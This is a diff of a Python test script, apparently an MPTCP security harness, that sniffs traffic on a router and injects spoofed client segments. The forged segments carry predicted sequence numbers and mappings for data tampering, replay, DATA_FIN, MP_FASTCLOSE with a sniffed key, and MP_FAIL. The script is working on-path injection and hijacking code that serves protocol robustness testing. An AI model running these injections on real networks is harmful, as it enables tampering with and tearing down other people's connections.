@@ -1,9 +1,13 @@
 #!/usr/bin/env python3
-"""T16: on a router of path 1, sees what passes, and sends segments of its own
-from the client's address, with the sequence numbers and the mapping that the
-client's next segment will have, ahead of it.
+"""T16, T17, T19, T22: on a router of path 1, sees what passes, and sends
+segments of its own from the client's address, with the sequence numbers that
+the client's next segment will have, ahead of it.
 
-usage: inject.py IFACE CLIENT PORT REPORT    until SIGTERM; makes REPORT.up
+usage: inject.py KIND IFACE CLIENT PORT REPORT  until SIGTERM; makes REPORT.up
+
+KIND is data, with the mapping that the client's next data will have; replay,
+the octets before it once more in that place; fin, a DATA_FIN there; fastclose,
+MP_FASTCLOSE with the key seen in the handshake; or fail, MP_FAIL.
 """
 
 import json
@@ -18,7 +22,7 @@ import stream
 import wire
 
 FIRST, EVERY = 10, 12   # which data segments are followed by a forged one
-INJECTED_MAX = 3
+MOST = {"data": 3, "replay": 3, "fin": 1, "fastclose": 1, "fail": 1}
 
 
 def frame_like(data):
@@ -29,72 +33,79 @@ def frame_like(data):
 
 
 class Injector:
-    def __init__(self, client, port):
-        self.client, self.port = client, port
+    def __init__(self, kind, client, port):
+        self.kind, self.client, self.port = kind, client, port
         self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                  socket.IPPROTO_RAW)
-        self.seen = 0
         self.isns = {}
-        self.old = b""
-        self.report = {"seen": 0, "read": 0, "injected": 0, "octets": 0,
-                       "acked": 0, "frames": 0, "replays": 0, "sums": False,
+        self.key_b = None
+        self.awaited = {}
+        self.report = {"seen": 0, "read": 0, "injected": 0, "acked": 0,
+                       "frames": 0, "sums": False,
                        "reset_reasons": []}
-        self.waiting = {}
 
-    def forge(self, data):
+    def octets(self, data):
         """Of the same length: a record with other words, or what looks like a
-        frame, the second time a genuine frame that was sent before."""
-        if not frame_like(data):
-            return stream.record("c", self.seen, stream.EVIL)[:len(data)]
-        self.report["frames"] += 1
-        if self.report["frames"] == 2 and len(self.old) == len(data):
-            self.report["replays"] += 1
-            return self.old
-        return data[:3] + stream.record("c", self.seen,
-                                        stream.EVIL)[:len(data) - 3]
+        frame; or what was sent before."""
+        evil = stream.record("c", self.report["seen"], stream.EVIL) * 3
+        if self.kind == "replay":
+            return data
+        if frame_like(data):
+            self.report["frames"] += 1
+            return data[:3] + evil[:len(data) - 3]
+        return evil[:len(data)]
+
+    def forge(self, seg, dss):
+        """The option and the octets of a segment right behind seg."""
+        length = len(seg.data)
+        into = (seg.seq - self.isns[seg.sport] - dss.ssn) % (1 << 32)
+        dsn = (int.from_bytes(dss.dsn, "big") + into + length) % (1 << 64)
+        ssn = (dss.ssn + into + length) % (1 << 32)
+        if self.kind == "fin":
+            return wire.dss(dsn, 0, 1, fin=True), b""
+        if self.kind == "fastclose":
+            return bytes([wire.MPTCP, 12, 0x70, 0]) + self.key_b, b""
+        if self.kind == "fail":
+            return bytes([wire.MPTCP, 12, 0x60, 0]) + \
+                dsn.to_bytes(8, "big"), b""
+        data = self.octets(seg.data)
+        sums = wire.dss_sum(dsn, ssn, length, data) if dss.sums else None
+        return wire.dss(dsn, ssn, length, sums=sums), data
 
     def inject(self, seg, dss):
-        """Right behind seg, as the client would go on."""
-        into = (seg.seq - self.isns[seg.sport] - dss.ssn) % (1 << 32)
-        length = len(seg.data)
-        dsn = (wire.near(dss.dsn, 0) + into + length) % (1 << 64)
-        ssn = (dss.ssn + into + length) % (1 << 32)
-        data = self.forge(seg.data)
-        sums = wire.dss_sum(dsn, ssn, length, data) if dss.sums else None
-        ack = wire.near(dss.ack, 0) if dss.ack and not dss.sums else None
-        opts = [o for o in seg.opts if o[0] == wire.STAMPS]
-        opts.append(wire.dss(dsn, ssn, length, ack, sums))
+        opt, data = self.forge(seg, dss)
+        opts = [o for o in seg.opts if o[0] == wire.STAMPS] + [opt]
         forged = wire.Segment(seg.src, seg.sport, seg.dst, seg.dport,
-                              seg.seq + length, seg.ack, wire.ACK | wire.PSH,
+                              seg.seq + len(seg.data), seg.ack, wire.ACK,
                               seg.wnd, opts, data)
         self.out.sendto(forged.pack(), (seg.dst, 0))
-        self.waiting[seg.sport] = (forged.seq + length) % (1 << 32)
+        self.awaited[seg.sport] = (forged.seq + len(data)) % (1 << 32)
         self.report["injected"] += 1
-        self.report["octets"] += length
         self.report["sums"] = dss.sums
 
     def from_client(self, seg):
         if seg.flags & wire.SYN:
             self.isns[seg.sport] = seg.seq
             return
+        capable = seg.mptcp(wire.CAPABLE)
+        if capable and len(capable) >= 20:
+            self.key_b = capable[12:20]
         dss = seg.mapping()
-        if not seg.data or not dss or dss.dsn is None or not dss.ssn or \
-                seg.sport not in self.isns:
+        if not seg.data or not dss or dss.dsn is None or \
+                len(dss.dsn) < 8 or not dss.ssn or seg.sport not in self.isns:
             return
-        self.seen += 1
-        self.report["seen"] = self.seen
+        self.report["seen"] += 1
         self.report["read"] += stream.readable(seg.data)
-        n = self.seen - FIRST
-        if n >= 0 and n % EVERY == 0 and len(seg.data) < 2 * stream.RECORD and \
-                self.report["injected"] < INJECTED_MAX:
+        n = self.report["seen"] - FIRST
+        if n >= 0 and n % EVERY == 0 and len(seg.data) < 2 * stream.RECORD \
+                and self.report["injected"] < MOST[self.kind]:
             self.inject(seg, dss)
-        self.old = seg.data
 
     def from_server(self, seg):
         if seg.flags & wire.RST:
             self.report["reset_reasons"].append(seg.rst_reason())
-        elif self.waiting.get(seg.dport) == seg.ack:
-            del self.waiting[seg.dport]
+        elif self.awaited.get(seg.dport) == seg.ack:
+            del self.awaited[seg.dport]
             self.report["acked"] += 1
 
     def packet(self, pkt):
@@ -106,10 +117,10 @@ class Injector:
 
 
 def main():
-    iface, client, port, out = sys.argv[1:5]
+    kind, iface, client, port, out = sys.argv[1:6]
     ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
     ear.bind((iface, 3))
-    attack = Injector(client, int(port))
+    attack = Injector(kind, client, int(port))
     going = [True]
     signal.signal(signal.SIGTERM, lambda *_: going.clear())
     open(out + ".up", "w").close()
